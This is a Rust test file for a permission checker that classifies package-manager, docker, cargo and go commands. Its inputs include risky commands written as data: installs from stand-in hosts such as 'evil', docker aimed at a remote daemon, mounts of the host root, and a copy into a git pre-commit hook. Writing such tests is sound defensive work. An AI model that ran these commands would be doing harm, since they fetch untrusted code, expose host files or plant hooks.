//! Where packages, mounts and build contexts come from, and what the
//! package tools open or write besides (helper H20's sweep of issue 11),
//! named by the attack or the false refusal they stop.

use super::tests::ids;

/// Every `(argv, id)`: `argv` must trip `id`.
fn all_trip(table: &[(&[&str], &str)]) {
    for (argv, id) in table {
        let got = ids(argv);
        assert!(got.contains(id), "{argv:?}: want {id}, got {got:?}");
    }
}

/// Every `argv` trips nothing.
fn none_trip(table: &[&[&str]]) {
    for argv in table {
        assert_eq!(ids(argv), Vec::<&str>::new(), "{argv:?}");
    }
}

#[test]
fn a_package_from_a_url_a_vcs_or_a_path_outside_the_tree_is_asked() {
    all_trip(&[
        (&["npm", "install", "git+https://evil/x"], "npm.loads-code"),
        (&["npm", "i", "github:x/y"], "npm.loads-code"),
        (&["npm", "i", "x/y"], "npm.loads-code"),
        // A gist by its id: a colon, no slash.
        (&["npm", "i", "gist:101a11beef"], "npm.loads-code"),
        (&["npm", "install", "file:/tmp/x"], "npm.loads-code"),
        (&["npm", "install", "../evil"], "npm.loads-code"),
        (&["npm", "--save", "add", "/tmp/x"], "npm.loads-code"),
        (&["pnpm", "add", "../x"], "pnpm.loads-code"),
        (&["yarn", "add", "git+https://evil/x"], "yarn.loads-code"),
        (&["pip", "install", "git+https://evil/x"], "pip.loads-code"),
        (
            &["pip", "install", "https://evil/x.tar.gz"],
            "pip.loads-code",
        ),
        (
            &["pip", "install", "x @ https://evil/x.whl"],
            "pip.loads-code",
        ),
        (&["pip", "install", "/tmp/evil"], "pip.loads-code"),
        (&["pip", "install", "-e", "/tmp/x"], "pip.loads-code"),
        (
            &["pip", "install", "--editable=git+https://e/x"],
            "pip.loads-code",
        ),
        (
            &["pip3", "download", "git+https://evil/x"],
            "pip.loads-code",
        ),
        (&["pip", "wheel", "/tmp/x"], "pip.loads-code"),
        (&["uv", "add", "git+https://evil/x"], "uv.loads-code"),
        (&["uv", "pip", "install", "/tmp/x"], "uv.loads-code"),
        (&["uv", "pip", "install", "-e", "/tmp/x"], "uv.loads-code"),
        (&["pnpm", "install", "../x"], "pnpm.loads-code"),
        (&["go", "run", "example.com/x@latest"], "go.loads-code"),
        (&["go", "run", "../other"], "go.loads-code"),
    ]);
}

#[test]
fn packages_from_the_registry_or_the_tree_stay_allowed() {
    none_trip(&[
        &["npm", "install"],
        &["npm", "i", "lodash", "@types/node", "react@18"],
        &["npm", "install", "./packages/a"],
        &["pnpm", "add", "lodash"],
        &["yarn", "add", "react"],
        &["pip", "install", "requests", "requests[socks]>=2"],
        &["pip", "install", "-e", "."],
        &[
            "pip",
            "install",
            "-e",
            "./src/pkg",
            "-r",
            "requirements.txt",
        ],
        &["uv", "add", "requests"],
        &["uv", "pip", "install", "-r", "requirements.txt"],
        &["go", "run", "."],
        // The words after the package are the program's.
        &["go", "run", "./cmd/x", "user@example.com", "/tmp/y"],
    ]);
}

#[test]
fn requirement_files_outside_the_tree_are_asked() {
    // pip reads `--index-url`, `-f`, `-r` and URLs from inside the file
    // (checked with pip 23.2.1: `Looking in indexes:` the file's URL).
    all_trip(&[
        (&["pip", "install", "-r", "/tmp/req.txt"], "pip.other-tree"),
        (
            &["pip", "install", "-c", "/tmp/c.txt", "x"],
            "pip.other-tree",
        ),
        (
            &["pip", "install", "--requirement=../r.txt"],
            "pip.other-tree",
        ),
        (&["pip", "download", "-r", "/tmp/req.txt"], "pip.other-tree"),
        // uv's requirements parser reads the same options.
        (
            &["uv", "pip", "install", "-r", "/tmp/req.txt"],
            "uv.other-tree",
        ),
        (&["uv", "pip", "sync", "../req.txt"], "uv.other-tree"),
        (
            &["uv", "pip", "compile", "-c", "/tmp/c.txt", "r.in"],
            "uv.other-tree",
        ),
    ]);
}

#[test]
fn docker_mount_sources_are_read_as_docker_reads_them() {
    // `..:/w` was judged as the path `..:/w`, inside the tree.
    all_trip(&[
        (
            &["docker", "run", "-v", "..:/w", "img"],
            "docker.other-tree",
        ),
        (
            &["docker", "run", "-v", "~/x:/y", "img"],
            "docker.other-tree",
        ),
        (
            &["docker", "run", "--volume=/:/h:ro", "img"],
            "docker.other-tree",
        ),
        (
            &["docker", "create", "-v", "../..:/w", "img"],
            "docker.other-tree",
        ),
        (
            &["docker", "run", "--volumes-from", "web", "img"],
            "docker.sets-config",
        ),
    ]);
    none_trip(&[
        &["docker", "run", "-v", "./data:/data", "img"],
        &["docker", "run", "-v", "data:/data", "img"],
        &["docker", "run", "-v", "/data", "img"],
        &["docker", "run", "-v", "src:/src:ro", "img"],
    ]);
}

#[test]
fn docker_host_network_another_daemon_contexts_and_copies_out_are_asked() {
    all_trip(&[
        (
            &["docker", "run", "--network", "host", "img"],
            "docker.runs-program",
        ),
        (
            &["docker", "run", "--network=host", "img"],
            "docker.runs-program",
        ),
        (
            &["docker", "build", "--network", "host", "."],
            "docker.runs-program",
        ),
        (&["docker", "-H", "tcp://evil", "ps"], "docker.uploads"),
        (&["docker", "--host=ssh://x", "ps"], "docker.uploads"),
        (&["docker", "build", "/"], "docker.other-tree"),
        (&["docker", "build", ".."], "docker.other-tree"),
        (
            &["docker", "build", "-f", "/tmp/Dockerfile", "."],
            "docker.other-tree",
        ),
        (&["docker", "cp", "web:/a", "/tmp/x"], "docker.writes-file"),
        (
            &["docker", "cp", "web:/a", ".git/hooks/pre-commit"],
            "docker.writes-file",
        ),
    ]);
    none_trip(&[
        &["docker", "run", "--network", "mynet", "img"],
        &["docker", "build", "-t", "x", "."],
        &["docker", "build", "-f", "Dockerfile.dev", "sub"],
        &["docker", "cp", "web:/a", "./a"],
        &["docker", "cp", "./a", "web:/a"],
        &["docker", "--context", "prod", "ps"],
    ]);
}

#[test]
fn browsers_new_packages_and_vendored_sources_outside_the_tree_are_asked() {
    all_trip(&[
        (&["cargo", "doc", "--open"], "cargo.runs-program"),
        (&["cargo", "rustdoc", "--open"], "cargo.runs-program"),
        (&["cargo", "new", "/tmp/x"], "cargo.writes-file"),
        (&["cargo", "init", "../x"], "cargo.writes-file"),
        (&["cargo", "vendor", "/tmp/v"], "cargo.writes-file"),
        (&["cargo", "uninstall", "ripgrep"], "cargo.writes-file"),
        (&["go", "bug"], "go.runs-program"),
        (&["go", "work", "use", "/tmp/x"], "go.other-tree"),
        (&["go", "work", "init", "../x"], "go.other-tree"),
        (&["go", "work", "edit", "-use=/tmp/x"], "go.other-tree"),
    ]);
    none_trip(&[
        &["cargo", "doc", "--no-deps"],
        &["cargo", "new", "sub/x"],
        &["cargo", "init"],
        &["cargo", "vendor", "vendor"],
        &["go", "work", "use", "./sub"],
        &["go", "work", "sync"],
    ]);
}

#[test]
fn npm_pkg_get_is_a_read_and_its_edits_are_asked() {
    none_trip(&[&["npm", "pkg", "get", "name"], &["npm", "pkg", "get"]]);
    all_trip(&[
        (&["npm", "pkg", "set", "scripts.test=id"], "npm.sets-config"),
        (&["npm", "pkg", "delete", "scripts.x"], "npm.sets-config"),
        (&["npm", "pkg", "fix"], "npm.sets-config"),
        (&["npm", "pkg", "frob"], "npm.unknown-subcommand"),
        (&["npm", "--json", "pkg", "set", "a=b"], "npm.sets-config"),
    ]);
}
